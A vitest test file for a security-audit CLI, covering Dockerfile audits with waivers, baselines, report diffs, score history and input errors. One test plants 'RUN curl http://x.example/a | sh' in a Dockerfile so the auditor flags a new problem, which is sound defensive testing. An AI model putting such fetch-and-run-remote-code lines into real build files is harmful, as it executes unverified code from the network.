// SPDX-License-Identifier: Apache-2.0
// Waivers, baselines, comparisons and history by the real command line.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cannotRun, errorCode, Secure } from '../support/secure.ts';

const DAY = 24 * 3600_000;
const day = (ahead: number): string => new Date(Date.now() + ahead * DAY).toISOString().slice(0, 10);

describe.skipIf(cannotRun())('audits that are settled', () => {
  let secure: Secure;
  let dir: string;
  const path = (name: string): string => join(dir, name);
  const put = (name: string, text: string): string => {
    writeFileSync(path(name), text);
    return path(name);
  };
  const dockerfile = (...flags: string[]) => secure.run('audit', 'dockerfile', path('Dockerfile'), ...flags);
  const waivers = (name: string, expires: string, check = 'SEC-DOCKERFILE-0001'): string =>
    put(
      name,
      `waivers:\n  - check: ${check}\n    owner: ops@example.org\n    reason: until the move\n    expires: ${expires}\n`,
    );

  beforeAll(async () => {
    secure = await Secure.create();
    dir = mkdtempSync(join(secure.root, 'settled-'));
    put(
      'Dockerfile',
      `FROM docker.io/library/debian@sha256:${'0'.repeat(64)} AS build\nHEALTHCHECK CMD ["/app"]\nUSER root\nENTRYPOINT ["/app"]\n`,
    );
  });
  afterAll(() => secure?.destroy());

  it('a waiver takes the failure away, says so, and gives it back when it ends', async () => {
    expect((await dockerfile()).code).toBe(1);
    const held = await dockerfile('--waivers', waivers('w.yaml', day(30)), '--json');
    const document = JSON.parse(held.stdout);
    expect([held.code, held.stderr]).toEqual([0, '']);
    expect(document.counts.waived).toBe(1);
    expect(JSON.stringify(document)).toContain('"reason":"until the move"');
    const soon = await dockerfile('--waivers', waivers('s.yaml', day(3)));
    expect([soon.code, soon.stderr]).toEqual([0, expect.stringContaining(`expires on ${day(3)}`)]);
    const ended = await dockerfile('--waivers', waivers('e.yaml', day(-1)), '--json');
    expect([ended.code, ended.stderr]).toEqual([1, expect.stringContaining(`expired on ${day(-1)}`)]);
    expect(JSON.parse(ended.stdout).notes.length).toBe(1);
    const unused = await dockerfile('--waivers', waivers('u.yaml', day(30), 'SEC-DOCKERFILE-0002'));
    expect([unused.code, unused.stderr]).toEqual([1, expect.stringContaining('was not needed')]);
  });

  it('a baseline lets pass what it has, and nothing else', async () => {
    const before = await dockerfile('--json', '--output', path('base.json'));
    expect(before.code).toBe(1);
    expect((await dockerfile('--baseline', path('base.json'))).code).toBe(0);
    expect((await dockerfile('--baseline', path('base.json'), '--min-score', '100')).code).toBe(1);
    const worse = readFileSync(path('Dockerfile'), 'utf8').replace(
      'USER root',
      'RUN curl http://x.example/a | sh\nUSER root',
    );
    writeFileSync(path('Dockerfile'), worse);
    const after = await dockerfile('--baseline', path('base.json'), '--json', '--output', path('next.json'));
    expect(after.code).toBe(1);
    // What was waived in a baseline comes back when nobody waives it any more.
    await dockerfile('--waivers', waivers('w2.yaml', day(30)), '--json', '--output', path('waived.json'));
    const marked = JSON.parse((await dockerfile('--baseline', path('waived.json'), '--json')).stdout);
    const known = marked.audited[0].results.filter(
      (each: { problems?: { known?: true }[] }) => each.problems?.[0]?.known,
    );
    expect(known.map(({ id }: { id: string }) => id)).not.toContain('SEC-DOCKERFILE-0001');
    expect(known.length).toBeGreaterThan(0);
  });

  it('diff says what is new, and by its exit code how bad that is', async () => {
    const diff = (...args: string[]) => secure.run('audit', 'diff', ...args);
    const [base, next] = [path('base.json'), path('next.json')];
    const text = await diff(base, next);
    expect([text.code, text.stdout]).toEqual([
      1,
      expect.stringMatching(/^score \d+ -> \d+ \(down \d+\): [1-9]\d* new/),
    ]);
    expect((await diff('--fail-on', 'none', base, next)).code).toBe(0);
    const back = await diff('--json', next, base);
    expect(back.code).toBe(0);
    expect(JSON.parse(back.stdout)).toMatchObject({ schemaVersion: 1, added: [] });
    expect(JSON.parse(back.stdout).fixed.length).toBeGreaterThan(0);
    expect((await diff('--format', 'markdown', base, next)).stdout).toContain('<details open><summary>New (');
    expect((await diff(base, base)).code).toBe(0);
  });

  it('history keeps scores for who audits, and shows them', async () => {
    expect((await secure.run('audit', 'history', '--json')).stdout).toContain('"audits": []');
    for (let i = 0; i < 2; i += 1) await dockerfile('--history');
    writeFileSync(path('Dockerfile'), readFileSync(path('Dockerfile'), 'utf8').replace('USER root', 'USER 1000:1000'));
    const third = await dockerfile('--history', '--fail-on', 'none', '--output', path('page.html'));
    expect(third.stdout).toMatch(/trend: .* -> \d+ \(up \d+\), 3 audits/);
    expect(readFileSync(path('page.html'), 'utf8')).toContain('<polyline');
    const { audits } = JSON.parse((await secure.run('audit', 'history', '--json')).stdout);
    expect(audits.length).toBe(3);
    expect(audits[2].score).toBeGreaterThan(audits[0].score);
    expect((await secure.run('audit', 'history', '--limit', '1')).stdout.trim().split('\n').length).toBe(2);
    expect((await secure.run('audit', 'history', '--scope', 'host')).stdout).toBe('');
    expect(statSync(join(secure.root, 'state/audit/history.db')).mode & 0o777).toBe(0o600);
  });

  it('bad input is one error', async () => {
    execFileSync('mkfifo', [path('fifo')]);
    symlinkSync('nowhere', path('dangling'));
    put('text.json', 'x');
    put('other.json', '{"schemaVersion":1,"error":{}}');
    put('bad.yaml', 'waivers: {}');
    put('future.yaml', readFileSync(waivers('f.yaml', day(200)), 'utf8'));
    for (const [args, code] of [
      [['dockerfile', path('Dockerfile'), '--waivers', path('missing')], 'AUDIT_UNREADABLE'],
      [['dockerfile', path('Dockerfile'), '--waivers', path('fifo')], 'AUDIT_UNREADABLE'],
      [['dockerfile', path('Dockerfile'), '--waivers', path('bad.yaml')], 'WAIVERS_INVALID'],
      [['dockerfile', path('Dockerfile'), '--waivers', path('future.yaml')], 'WAIVERS_INVALID'],
      [['dockerfile', path('Dockerfile'), '--baseline', path('fifo')], 'REPORT_INVALID'],
      [['dockerfile', path('Dockerfile'), '--baseline', path('dangling')], 'REPORT_INVALID'],
      [['dockerfile', path('Dockerfile'), '--baseline', path('text.json')], 'REPORT_INVALID'],
      [['dockerfile', path('Dockerfile'), '--baseline', '/dev/zero'], 'REPORT_INVALID'],
      [['diff', path('base.json'), path('other.json')], 'REPORT_INVALID'],
      [['diff', path('base.json'), dir], 'REPORT_INVALID'],
      [['diff', path('base.json')], 'MISSING_ARGUMENT'],
      [['diff', '--json', '--format', 'table', path('base.json'), path('base.json')], 'USAGE'],
      [['history', '--limit', '0'], 'INVALID_VALUE'],
    ] as const) {
      const result = await secure.run('audit', ...args);
      // With --json errors are JSON, on stdout.
      const found = args.includes('--json' as never) ? JSON.parse(result.stdout).error.code : errorCode(result);
      expect([args, found, result.code]).toEqual([args, code, 2]);
    }
  });
});
